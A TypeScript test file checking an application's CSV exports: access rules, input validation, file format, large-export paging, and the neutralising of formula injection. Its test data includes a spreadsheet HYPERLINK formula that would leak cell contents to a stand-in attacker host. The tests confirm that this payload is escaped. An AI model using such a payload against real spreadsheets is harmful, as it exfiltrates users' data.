// The CSV exports through the API, on both databases: who may export, bad input in the contract's
// shape, the file's form (BOM, separator per language, header row, attachment), formula injection
// neutralised, and the parsed file equal to the database's rows across many pages.
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, createAgent, dueIn, signIn, type AgentClient } from '../support/agent.ts';
import { expectApiError } from '../support/api-errors.ts';
import { startApp, type RunningApp } from '../support/app.ts';
import { writeAgain, writeMessage } from '../support/customer.ts';
import { databaseKinds } from '../support/databases.ts';

const BOM = '\uFEFF';
const today = new Date().toISOString().slice(0, 10);

interface CsvFile {
  status: number;
  headers: Headers;
  text: string;
}

describe.each(databaseKinds)('CSV exports on %s', (kind) => {
  let ecoute: RunningApp;
  let admin: AgentClient;
  let manager: AgentClient;
  let agent: AgentClient;

  const download = async (as: AgentClient, path: string, headers: Record<string, string> = {}): Promise<CsvFile> => {
    const response = await fetch(`${ecoute.url}${path}`, { headers: { cookie: as.cookie, ...headers } });
    const bytes = new Uint8Array(await response.arrayBuffer());
    // Kept as sent: a decoder drops a BOM unless told not to.
    return {
      status: response.status,
      headers: response.headers,
      text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes),
    };
  };
  const rowsOf = (file: CsvFile, delimiter: ';' | ',') =>
    parse(file.text, { bom: true, delimiter, columns: true, relax_column_count: false }) as Record<string, string>[];
  const query = async <T extends Record<string, unknown>>(statement: ReturnType<typeof sql>) =>
    (await ecoute.app.db.execute<T>(statement)).rows;

  beforeAll(async () => {
    ecoute = await startApp(kind);
    admin = await signIn(ecoute.url);
    manager = await createAgent(ecoute.url, admin, { email: 'mona@shop.example', name: 'Mona', role: 'manager' });
    agent = await createAgent(ecoute.url, admin, { email: 'alex@shop.example', name: 'Alex', role: 'agent' });
  });
  afterAll(() => ecoute.close());

  describe('who may export, and what it refuses', () => {
    it('managers and admins export; agents get a 403 and strangers a 401', async () => {
      for (const path of ['/api/v1/exports/messages.csv', '/api/v1/exports/commitments.csv']) {
        expect((await download(manager, path)).status).toBe(200);
        expect((await download(admin, path)).status).toBe(200);
        const refused = await agent.request('GET', path);
        expectApiError(refused, 403, 'forbidden');
        expectApiError(await call(ecoute.url, 'GET', path), 401, 'unauthenticated');
      }
    });

    it('a day that is not YYYY-MM-DD, a period backwards, an unknown team or language are 400s', async () => {
      const path = '/api/v1/exports/messages.csv';
      expectApiError(await manager.request('GET', `${path}?from=2026-13-01`), 400);
      expectApiError(await manager.request('GET', `${path}?to=yesterday`), 400);
      expectApiError(await manager.request('GET', `${path}?teamId=nope`), 400);
      expectApiError(await manager.request('GET', `${path}?locale=de`), 400);
      const backwards = await manager.request('GET', `${path}?from=2026-02-01&to=2026-01-31`);
      expectApiError(backwards, 400, 'invalid_period');
      expect(backwards.json.error.fields).toEqual({ to: expect.any(String) });
      const unknown = await manager.request(
        'GET',
        `/api/v1/exports/commitments.csv?teamId=00000000-0000-4000-8000-000000000000`,
      );
      expectApiError(unknown, 400, 'unknown_team');
    });
  });

  describe('the messages of a day, with their times', () => {
    let formula: Awaited<ReturnType<typeof writeMessage>>;
    let answered: Awaited<ReturnType<typeof writeMessage>>;

    beforeAll(async () => {
      formula = await writeMessage(ecoute.url, {
        body: '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")',
        name: '@Camille',
        locale: 'fr',
      });
      answered = await writeMessage(ecoute.url, {
        body: 'My parcel, "the blue one", never came;\nplease check, thanks.',
        name: 'Sam',
        locale: 'en',
      });
      const reply = await admin.request('POST', `/api/v1/messages/${answered.id}/replies`, {
        body: 'Hello Sam, we are on it.',
        commitments: [
          { description: '+ call the carrier', dueOn: dueIn(3), ownerId: manager.user.id },
          { description: 'Refund the postage', dueOn: dueIn(5) },
          { description: 'Send a voucher', dueOn: dueIn(7) },
        ],
      });
      expect(reply.status).toBe(201);
      const [carrier, postage] = reply.json.commitments;
      expect(
        (await admin.request('POST', `/api/v1/commitments/${carrier.id}/fulfil`, { outcome: 'Called.' })).status,
      ).toBe(200);
      expect(
        (await admin.request('POST', `/api/v1/commitments/${postage.id}/drop`, { reason: '-5 € only' })).status,
      ).toBe(200);
      expect((await writeAgain(ecoute.url, answered.token, 'Any news?')).status).toBe(201);
      expect(
        (await admin.request('PUT', `/api/v1/messages/${formula.id}/tags`, { tags: ['urgent', 'vip'] })).status,
      ).toBe(200);
    });

    it('French: BOM, `;`, French headers naming UTC, an attachment; formulas neutralised', async () => {
      const file = await download(manager, `/api/v1/exports/messages.csv?from=${today}&to=${today}&locale=fr`);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(file.headers.get('content-disposition')).toBe(
        `attachment; filename="ecoute-messages-from-${today}-to-${today}.csv"`,
      );
      expect(file.text.startsWith(`${BOM}Référence;Reçu (UTC);`)).toBe(true);
      const rows = rowsOf(file, ';');
      const row = rows.find((r) => r['Référence'] === formula.reference)!;
      expect(row['Message']).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")`);
      expect(row['Nom du client']).toBe(`'@Camille`);
      expect(row['Étiquettes']).toBe('urgent vip');
      expect(row['Statut']).toBe('unanswered');
      expect(row['Première réponse (UTC)']).toBe('');
      expect(row['Reçu (UTC)']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    });

    it('English: `,`, English headers; every time is the timeline’s', async () => {
      const file = await download(manager, `/api/v1/exports/messages.csv?from=${today}`, {
        'accept-language': 'en-GB',
      });
      expect(file.text.startsWith(`${BOM}Reference,Received (UTC),`)).toBe(true);
      const row = rowsOf(file, ',').find((r) => r['Reference'] === answered.reference)!;
      const [times] = await query<{ status: string; received: string; ack: string; reply: string; again: string }>(sql`
        select m.status, floor(extract(epoch from m.created_at) * 1000)::bigint::text as received,
          (select floor(extract(epoch from min(created_at)) * 1000)::bigint::text from timeline_events
            where message_id = m.id and type = 'acknowledged') as ack,
          (select floor(extract(epoch from min(created_at)) * 1000)::bigint::text from timeline_events
            where message_id = m.id and type = 'reply') as reply,
          (select floor(extract(epoch from max(created_at)) * 1000)::bigint::text from timeline_events
            where message_id = m.id and type = 'customer_message') as again
        from messages m where m.id = ${answered.id}`);
      expect(Date.parse(row['Received (UTC)']!)).toBe(Number(times!.received));
      expect(Date.parse(row['Acknowledged (UTC)']!)).toBe(Number(times!.ack));
      expect(Date.parse(row['First reply (UTC)']!)).toBe(Number(times!.reply));
      expect(Date.parse(row['Customer’s last turn began (UTC)']!)).toBe(Number(times!.again));
      const seconds = Number(row['Time to first reply (seconds, in the team’s working hours)']);
      // The team works around the clock: its working time is the wall clock's, to the second.
      expect(Math.abs(seconds - (Number(times!.reply) - Number(times!.received)) / 1000)).toBeLessThanOrEqual(0.501);
      expect(row).toMatchObject({
        Status: times!.status,
        Team: 'General',
        Assignee: admin.user.name,
        'First reply by': admin.user.name,
        Language: 'en',
        Form: expect.any(String),
        'Customer name': 'Sam',
        Message: 'My parcel, "the blue one", never came;\nplease check, thanks.',
      });
    });

    it('commitments with their message, owner, due date, state, kept and dropped times', async () => {
      const file = await download(manager, `/api/v1/exports/commitments.csv?locale=en`);
      expect(file.headers.get('content-disposition')).toBe('attachment; filename="ecoute-commitments.csv"');
      const rows = rowsOf(file, ',');
      expect(rows.map((row) => [row['Commitment'], row['State'], row['Owner']])).toEqual([
        [`'+ call the carrier`, 'fulfilled', 'Mona'],
        ['Refund the postage', 'dropped', admin.user.name],
        ['Send a voucher', 'open', admin.user.name],
      ]);
      expect(rows.every((row) => row['Message reference'] === answered.reference)).toBe(true);
      expect(rows.map((row) => row['Due on'])).toEqual([dueIn(3), dueIn(5), dueIn(7)]);
      expect(rows[0]!['Kept (UTC)']).toMatch(/Z$/);
      expect(rows[0]!['Dropped (UTC)']).toBe('');
      expect(rows[1]!['Dropped (UTC)']).toMatch(/Z$/);
      expect(rows[1]!['What was done, or why not']).toBe(`'-5 € only`);
      expect(rows[2]!['Kept (UTC)']).toBe('');
      // A team with none of these messages exports only the header row.
      const team = await admin.request('POST', '/api/v1/teams', { name: 'Empty' });
      const empty = await download(manager, `/api/v1/exports/commitments.csv?locale=en&teamId=${team.json.id}`);
      expect(rowsOf(empty, ',')).toEqual([]);
      expect(empty.text.split('\r\n')).toHaveLength(2);
    });
  });

  it('a month of 10,001 messages parses back to exactly the database’s rows, in order, over 3 batches', async () => {
    // Made in SQL to be cheap; three messages share each minute, so pages end within equal times.
    await query(sql`
      insert into messages (form_id, reference, tracking_token_hash, body, locale, status, created_at, tags)
      select (select id from forms where key = 'demo'), 'EC-B' || lpad(n::text, 5, '0'), md5('bulk ' || n),
             case when n % 1000 = 0 then '=1+1 bulk ' || n else 'Bulk message ' || n end,
             case when n % 2 = 0 then 'fr' else 'en' end, 'unanswered',
             timestamptz '2025-03-01 00:00:00+00' + (n / 3) * interval '1 minute' + interval '123456 microseconds',
             case when n % 7 = 0 then array['bulk'] else '{}' end
      from generate_series(1, 10001) n`);
    // The facts trigger runs once per event; the same function, run once for all of them, is cheaper.
    await query(sql`alter table timeline_events disable trigger timeline_events_message_facts`);
    await query(sql`
      insert into timeline_events (message_id, type, visibility, created_at)
      select id, 'acknowledged', 'public', created_at + interval '1 second' from messages where reference like 'EC-B%'
      union all
      select id, 'reply', 'public', created_at + interval '90 minutes' from messages
      where reference like 'EC-B%' and reference::text like '%5'`);
    await query(sql`alter table timeline_events enable trigger timeline_events_message_facts`);
    await query(sql`select refresh_message_facts(array(select id from messages where reference like 'EC-B%'))`);
    const file = await download(manager, '/api/v1/exports/messages.csv?from=2025-03-01&to=2025-03-31&locale=en');
    const rows = rowsOf(file, ',');
    const expected = await query<{ reference: string; received: string; reply: string | null; body: string }>(sql`
      select m.reference, floor(extract(epoch from m.created_at) * 1000)::bigint::text as received, m.body,
        (select floor(extract(epoch from min(created_at)) * 1000)::bigint::text from timeline_events
          where message_id = m.id and type = 'reply') as reply
      from messages m
      where m.created_at >= '2025-03-01T00:00:00Z' and m.created_at < '2025-04-01T00:00:00Z'
      order by m.created_at, m.id`);
    expect(expected).toHaveLength(10_001);
    expect(rows.map((row) => row['Reference'])).toEqual(expected.map((row) => row.reference));
    expect(rows.map((row) => Date.parse(row['Received (UTC)']!))).toEqual(expected.map((row) => Number(row.received)));
    expect(rows.map((row) => (row['First reply (UTC)'] ? Date.parse(row['First reply (UTC)']) : null))).toEqual(
      expected.map((row) => (row.reply === null ? null : Number(row.reply))),
    );
    expect(rows.map((row) => row['Message'])).toEqual(
      expected.map((row) => (row.body.startsWith('=') ? `'${row.body}` : row.body)),
    );
    expect(
      rows.filter((row) => row['Time to first reply (seconds, in the team’s working hours)'] === '5400'),
    ).toHaveLength(expected.filter((row) => row.reply !== null).length);
  }, 120_000);
});
